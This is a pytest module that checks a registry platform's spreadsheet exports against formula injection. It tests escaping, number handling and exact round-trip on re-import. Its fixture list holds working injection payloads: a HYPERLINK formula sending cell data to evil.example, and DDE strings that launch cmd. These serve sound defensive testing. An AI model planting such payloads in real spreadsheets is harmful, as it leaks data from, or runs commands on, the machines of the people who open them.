"""Spreadsheet formula injection (issue 10, item 9): every xlsx and csv the platform writes escapes
text a spreadsheet program would evaluate (beginning with =, +, -, @, tab or CR) with a leading
quote, keeps numbers as numbers, and the importers give back exactly what was exported — a value
that itself begins with a quote included."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from _sheets import Sessions, dump
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select
from test_channel_list import cid, city, good_row, sheet
from test_survey import form1, unit_row

from xueliang.db.tables import Unit
from xueliang.registry import spreadsheet
from xueliang.registry.channel_list import export_channels, import_channels
from xueliang.registry.survey import export_summary, export_survey, import_survey

TRIGGERS = "=+-@\t\r"
#: A plain number (nothing to evaluate): the one text left unescaped.
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
#: What an attacker types where the platform keeps text (a unit name, an address, a contact).
EVIL = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "'=1+1",  # legitimately begins with a quote, then a formula character
    "'s-Hertogenbosch 仓库",  # legitimately begins with a quote
    "-",
    "+86 551 6512 3456 转 8",
]


def _formula_like(v: object) -> bool:
    return isinstance(v, str) and v[:1] in tuple(TRIGGERS)


def _xlsx_cells(data: bytes) -> list[Any]:
    """Every cell of every sheet, as stored (formulas as formulas, not computed)."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                out.append(c.value)
    return out


def _csv_cells(data: bytes) -> list[str]:
    return [c for r in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in r]


def _assert_inert(path: Path) -> list[Any]:
    data = path.read_bytes()
    cells = _xlsx_cells(data) if path.suffix == ".xlsx" else _csv_cells(data)
    bad = [c for c in cells if _formula_like(c) and not NUMBER.fullmatch(str(c))]
    assert not bad, f"cells a spreadsheet would evaluate: {bad}"
    return cells


# ---- the one function ----------------------------------------------------------------------
@given(st.text())
@settings(max_examples=2000)
def test_escape_is_inert_and_undone_exactly(s: str) -> None:
    e = spreadsheet.safe_cell(s)
    assert isinstance(e, str)
    assert spreadsheet.unescape_cell(e) == s
    if e[:1] in tuple(TRIGGERS):
        assert NUMBER.fullmatch(s), s  # only a plain number is left as it is
    if not s[:1] or s[0] not in TRIGGERS + "'":
        assert e == s  # ordinary text is untouched


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.decimals(allow_nan=False), st.none(),
                 st.booleans()))
def test_numbers_stay_numbers(x: Any) -> None:
    assert spreadsheet.safe_cell(x) is x
    assert spreadsheet.safe_cell(x, xlsx=True) is x


@pytest.mark.parametrize("text", ["-118.5", "+3", "-0.25e3", "12"])
def test_plain_number_text_is_left_alone(text: str) -> None:
    assert spreadsheet.safe_cell(text) == text


#: Cell text the readers can give back: they strip outer whitespace, and XML has no control chars.
_CELL = st.text(st.characters(blacklist_categories=("Cs", "Cc", "Cn")) | st.sampled_from(list("=+-@'")),
                max_size=30).map(str.strip)


@given(st.lists(st.lists(_CELL, min_size=1, max_size=4), min_size=1, max_size=6))
@settings(max_examples=150, deadline=None)
def test_xlsx_written_then_read_gives_the_same_text(rows: list[list[str]]) -> None:
    buf = io.BytesIO()
    spreadsheet.write_xlsx(buf, [], ["a", "b", "c", "d"], [list(r) for r in rows])
    got = spreadsheet.read_raw_rows(buf.getvalue(), "x.xlsx")
    assert not [c for c in _xlsx_cells(buf.getvalue()) if _formula_like(c) and not NUMBER.fullmatch(c)]
    body = got[1:]
    for want, have in zip(rows, body, strict=False):
        assert have[: len(want)] == want
    assert all(not any(r) for r in rows[len(body):])  # only empty trailing rows may be dropped


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_table_of_evil_text_round_trips(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"t{suffix}"
    rows: list[list[object]] = [[e, -118.5, 31.25, e] for e in EVIL]
    spreadsheet.write_table(path, [EVIL[0]], ["名称", "经度", "纬度", "备注"], rows, [EVIL[1]])
    cells = _assert_inert(path)
    if suffix == ".xlsx":
        assert -118.5 in cells and 31.25 in cells  # numbers are number cells
    else:
        assert "-118.5" in cells  # a plain number, not '-118.5
    got = spreadsheet.read_raw_rows(path.read_bytes(), path.name)
    assert got[0] == [EVIL[0]] + [""] * (len(got[0]) - 1) or got[0][0] == EVIL[0]
    assert [r[0] for r in got[2 : 2 + len(EVIL)]] == EVIL
    assert [r[1] for r in got[2 : 2 + len(EVIL)]] == ["-118.5"] * len(EVIL)
    assert got[-1][0] == EVIL[1]


# ---- the registry's exports -----------------------------------------------------------------
def _escaped_csv(rows: list[list[Any]]) -> bytes:
    buf = io.StringIO()
    escape = getattr(spreadsheet, "safe_cell", lambda c: c)  # (the code before issue 10 had none)
    csv.writer(buf).writerows([[escape(c) for c in r] for r in rows])
    return buf.getvalue().encode()


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
async def test_survey_export_is_inert_and_reimports_the_same(sessions: Sessions, tmp_path: Path, suffix: str) -> None:
    rows = [
        unit_row(EVIL[i], **{"单位地址": EVIL[(i + 1) % len(EVIL)], "联系人名称及联系方式": EVIL[(i + 2) % len(EVIL)],
                             "承建单位名称": EVIL[(i + 3) % len(EVIL)], "系统目前的故障点": EVIL[(i + 4) % len(EVIL)]})
        for i in range(len(EVIL))
    ]
    # Typed in by hand, a quote at the start would be taken as the escape: written escaped, the
    # file holds exactly EVIL (as one exported from elsewhere would).
    rep = await import_survey(sessions, _escaped_csv(form1(rows, "=教育局")), "evil.csv")
    assert rep.ok, rep.text()
    async with sessions() as s:
        names = set((await s.scalars(select(Unit.name))).all())
    assert names == set(EVIL)
    before = await dump(sessions)
    path = tmp_path / f"survey{suffix}"
    assert await export_survey(sessions, path) == len(EVIL)
    _assert_inert(path)
    rep = await import_survey(sessions, path.read_bytes(), path.name)
    assert rep.ok and rep.unchanged == len(EVIL) and not rep.updated and not rep.created, rep.text()
    assert await dump(sessions) == before
    summary = tmp_path / f"summary{suffix}"
    await export_summary(sessions, summary)
    _assert_inert(summary)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
async def test_channel_list_export_is_inert_and_reimports_the_same(
    sessions: Sessions, registry: Any, tmp_path: Path, suffix: str
) -> None:
    await city(registry)
    rows = [good_row(i) for i in range(len(EVIL))]
    for i, r in enumerate(rows):
        r[1], r[10] = EVIL[i], EVIL[-1 - i]
    rep = await import_channels(sessions, _escaped_csv(sheet(rows)), "a.csv")
    assert rep.ok, rep.text()
    before = await dump(sessions)
    path = tmp_path / f"points{suffix}"
    assert await export_channels(sessions, path) == len(EVIL)
    cells = _assert_inert(path)
    lon = rows[0][8]
    assert (lon if suffix == ".xlsx" else str(lon)) in cells  # coordinates stay numbers
    raw = spreadsheet.read_raw_rows(path.read_bytes(), path.name)
    assert raw[1][:2] == [cid(0), EVIL[0]]
    rep = await import_channels(sessions, path.read_bytes(), path.name)
    assert rep.ok and rep.unchanged == len(EVIL) and not rep.updated, rep.text()
    assert await dump(sessions) == before
